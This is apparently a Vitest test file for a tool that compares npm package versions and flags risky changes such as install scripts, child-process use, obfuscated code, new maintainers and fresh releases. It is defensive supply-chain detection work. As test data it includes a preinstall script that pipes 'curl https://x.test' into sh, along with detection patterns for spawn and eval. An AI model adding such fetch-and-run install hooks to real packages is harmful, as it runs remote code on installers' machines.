/**
 * compareVersions and the code signals: tables of old/new contents and the exact facts.
 */
import { describe, expect, it } from "vitest";
import { capabilitiesOf, obfuscationMarks } from "../../src/dependencies/code-signals.js";
import { compareVersions, versionMeta, type CompareInput } from "../../src/dependencies/compare.js";
import type { PackageContents } from "../../src/dependencies/tarball.js";

const NOW = Date.parse("2026-03-01T12:00:00Z");

function contents(packageJson: Record<string, unknown> = {}, code: Record<string, string> = {}, extra: Partial<PackageContents> = {}): PackageContents {
  return { packageJson, files: ["package.json", ...Object.keys(code)], code: new Map(Object.entries(code)), unreadCode: [], bindingGyp: false, nativeFiles: [], ...extra };
}

const compare = (input: Partial<CompareInput> & { new: PackageContents }) => compareVersions({ name: "pkg", now: NOW, ...input });

describe("capabilitiesOf", () => {
  it.each([
    ['require("child_process")', ["child-process"]],
    ["require('node:child_process').exec", ["child-process"]],
    ['import { spawn } from "node:child_process";', ["child-process"]],
    ['await import("child_process")', ["child-process"]],
    ['const h = require("https");', ["network"]],
    ['import dns from "node:dns/promises";', ["network"]],
    ["const r = await fetch(url);", ["network"]],
    ["globalThis.fetch(url)", ["network"]],
    ["client.fetch(url)", []],
    ["new WebSocket(u)", ["network"]],
    ["eval(code)", ["eval"]],
    ["obj.eval(code)", []],
    ['new Function("return 1")', ["eval"]],
    ['require("vm").runInNewContext(x)', ["eval"]],
    ['require("httpx"); require("netlify")', []],
    ["// spawns a child_process here", []],
  ])("%s → %j", (text, expected) => expect([...capabilitiesOf(text)]).toEqual(expected));
});

describe("obfuscationMarks", () => {
  it.each([
    ["index.js", `var a = 1;\n${"x".repeat(10_001)}\n`, ["a line over 10,000 characters"]],
    ["dist/app.min.js", "x".repeat(20_000), []],
    ["index.js", `const blob = "${"ab12".repeat(600)}";`, ["a long hex string"]],
    ["index.js", `const b = '${"QUJD".repeat(600)}';`, ["a long base64 string"]],
    ["index.js", `const s = "${"ab".repeat(100)}";`, []],
  ])("%s", (file, text, expected) => expect(obfuscationMarks(file, text)).toEqual(expected));
});

describe("compareVersions", () => {
  it("a clean bump has no facts", () => {
    const old = contents({ license: "MIT", dependencies: { a: "^1" }, scripts: { test: "x" } }, { "index.js": "module.exports = 1" });
    const now = contents({ license: "MIT", dependencies: { a: "^1.1" }, scripts: { test: "y" } }, { "index.js": "module.exports = 2" });
    expect(compare({ old, new: now, oldMeta: { publisher: "a", maintainers: ["a"] }, newMeta: { publisher: "a", maintainers: ["a"], publishedAt: NOW - 100 * 3_600_000 } })).toEqual([]);
  });

  it("install scripts: added and changed are critical, removed is nothing", () => {
    const old = contents({ scripts: { install: "node-gyp rebuild", prepare: "tsc" } });
    const now = contents({ scripts: { preinstall: "curl https://x.test | sh", install: "node install.js", prepare: "tsc" } });
    expect(compare({ old, new: now })).toEqual([
      { kind: "install-script", severity: "critical", text: "adds a `preinstall` script: `curl https://x.test | sh`", files: ["package.json"] },
      { kind: "install-script", severity: "critical", text: "changes its `install` script from `node-gyp rebuild` to `node install.js`", files: ["package.json"] },
    ]);
    expect(compare({ old: now, new: contents() })).toEqual([]);
  });

  it("a registry package's prepare script is a warning: npm runs it only for git and local installs", () => {
    const old = contents({ scripts: { prepare: "tsc" } });
    expect(compare({ old: contents(), new: contents({ scripts: { prepare: "husky install" } }) })).toEqual([
      { kind: "install-script", severity: "warning", text: "adds a `prepare` script: `husky install` (npm runs it only when installing from git or a local folder, not from the registry)", files: ["package.json"] },
    ]);
    expect(compare({ old, new: contents({ scripts: { prepare: "node x.js" } }) })).toEqual([
      { kind: "install-script", severity: "warning", text: "changes its `prepare` script from `tsc` to `node x.js` (npm runs it only when installing from git or a local folder, not from the registry)", files: ["package.json"] },
    ]);
  });

  it("new executables: bin as a string, a map and directories.bin", () => {
    expect(compare({ name: "@s/tool", old: contents(), new: contents({ bin: "./cli.js" }) })).toEqual([{ kind: "bin", severity: "warning", text: "adds an executable `tool` (`./cli.js`)", files: ["cli.js"] }]);
    expect(compare({ old: contents({ bin: { a: "a.js" } }), new: contents({ bin: { a: "a.js", b: "b.js" } }) })).toEqual([{ kind: "bin", severity: "warning", text: "adds an executable `b` (`b.js`)", files: ["b.js"] }]);
    expect(compare({ old: contents(), new: contents({ directories: { bin: "./bin" } }, { "bin/x.js": "" }) })).toEqual([{ kind: "bin", severity: "warning", text: "adds an executable `x.js` (`bin/x.js`)", files: ["bin/x.js"] }]);
  });

  it("native addons: binding.gyp, gypfile and .node files that are new", () => {
    expect(compare({ old: contents(), new: contents({}, {}, { bindingGyp: true, nativeFiles: ["build/Release/x.node"] }) })).toEqual([
      { kind: "native-addon", severity: "warning", text: "adds native code: `binding.gyp` (npm compiles it with node-gyp on install); compiled addon `build/Release/x.node`", files: ["binding.gyp", "build/Release/x.node"] },
    ]);
    expect(compare({ old: contents(), new: contents({ gypfile: true }) })).toEqual([{ kind: "native-addon", severity: "warning", text: "adds native code: `gypfile: true` (npm compiles it with node-gyp on install)", files: [] }]);
    const native = contents({}, {}, { bindingGyp: true, nativeFiles: ["a.node"] });
    expect(compare({ old: native, new: native })).toEqual([]);
  });

  it("capabilities count only when the old version had none of them, naming up to 3 files", () => {
    const spawn = 'require("child_process")';
    const now = contents({}, { "d.js": spawn, "a.js": spawn, "c.js": spawn, "b.js": spawn, "net.js": 'require("net")' });
    expect(compare({ old: contents({}, { "old.js": 'require("http")' }), new: now })).toEqual([
      { kind: "child-process", severity: "warning", text: "now starts child processes (`child_process`); the old version did not, in `a.js`, `b.js`, `c.js` and 1 more", files: ["a.js", "b.js", "c.js"] },
    ]);
  });

  it("obfuscation: marks in a file that had none before", () => {
    const long = "y".repeat(12_000);
    expect(compare({ old: contents({}, { "a.js": long }), new: contents({}, { "a.js": long, "b.js": long }) })).toEqual([
      { kind: "obfuscation", severity: "warning", text: "has marks of obfuscated code: a line over 10,000 characters in `b.js`", files: ["b.js"] },
    ]);
  });

  it("new dependencies (a listing, not a finding) and a licence change", () => {
    const old = contents({ license: "MIT", dependencies: { a: "^1" } });
    const now = contents({ license: { type: "GPL-3.0" }, dependencies: { a: "^1", b: "^2" }, optionalDependencies: { c: "3" } });
    expect(compare({ old, new: now })).toEqual([
      { kind: "new-dependency", severity: null, text: "adds 2 dependencies: `c` 3, `b` ^2" },
      { kind: "licence", severity: "warning", text: "changes its licence from `MIT` to `GPL-3.0`", files: ["package.json"] },
    ]);
  });

  it("from the registry: publisher, maintainers, deprecation, a fresh release", () => {
    const facts = compare({
      old: contents(),
      new: contents(),
      oldMeta: { publisher: "alice", maintainers: ["alice"] },
      newMeta: { publisher: "eve", maintainers: ["alice", "eve", "mallory"], deprecated: "moved", publishedAt: NOW - 3_600_000 },
    });
    expect(facts).toEqual([
      { kind: "publisher", severity: "warning", text: "is published by `eve`; the old version was published by `alice`" },
      { kind: "maintainer", severity: "warning", text: "adds maintainers `eve`, `mallory`" },
      { kind: "deprecated", severity: "warning", text: "is deprecated: “moved”" },
      { kind: "fresh-release", severity: "warning", text: "was published 1 hour before this review (under 72 hours: hijacked releases are usually caught within days)" },
    ]);
  });

  it("a command with backticks stays one code span", () => {
    expect(compare({ new: contents({ scripts: { postinstall: "echo `id`" } }) })[0]!.text).toBe("adds a `postinstall` script: `` echo `id` ``");
  });
});

describe("versionMeta", () => {
  it("reads publisher, maintainers (objects or strings), deprecation and time", () => {
    const document = {
      versions: { "1.0.0": { _npmUser: { name: "alice" }, maintainers: [{ name: "alice" }, "bob <bob@x.test>"], deprecated: "old" } },
      time: { "1.0.0": "2026-01-01T00:00:00.000Z" },
    };
    expect(versionMeta(document, "1.0.0")).toEqual({ publisher: "alice", maintainers: ["alice", "bob"], deprecated: "old", publishedAt: Date.parse("2026-01-01T00:00:00.000Z") });
    expect(versionMeta(document, "2.0.0")).toBeUndefined();
    expect(versionMeta("nonsense", "1.0.0")).toBeUndefined();
  });
});
